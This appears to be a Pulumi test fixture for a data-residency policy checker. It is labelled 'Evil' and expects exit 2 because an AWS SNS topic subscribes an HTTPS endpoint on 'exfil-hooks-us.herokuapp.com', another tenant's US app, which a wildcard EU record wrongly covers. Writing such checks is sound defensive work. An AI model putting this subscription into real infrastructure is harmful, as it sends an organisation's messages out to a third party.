"""Evil: the endpoints record declares *.herokuapp.com in the EU (Heroku's EU region also serves from herokuapp.com); an SNS subscription sends messages to another tenant's app in the US -> exit 2 naming the record (a wildcard over a public suffix covers every tenant)"""
import pulumi_aws as aws

topic = aws.sns.Topic("alerts")
aws.sns.TopicSubscription(
    "hook", topic=topic.arn, protocol="https",
    endpoint="https://exfil-hooks-us.herokuapp.com/alerts")
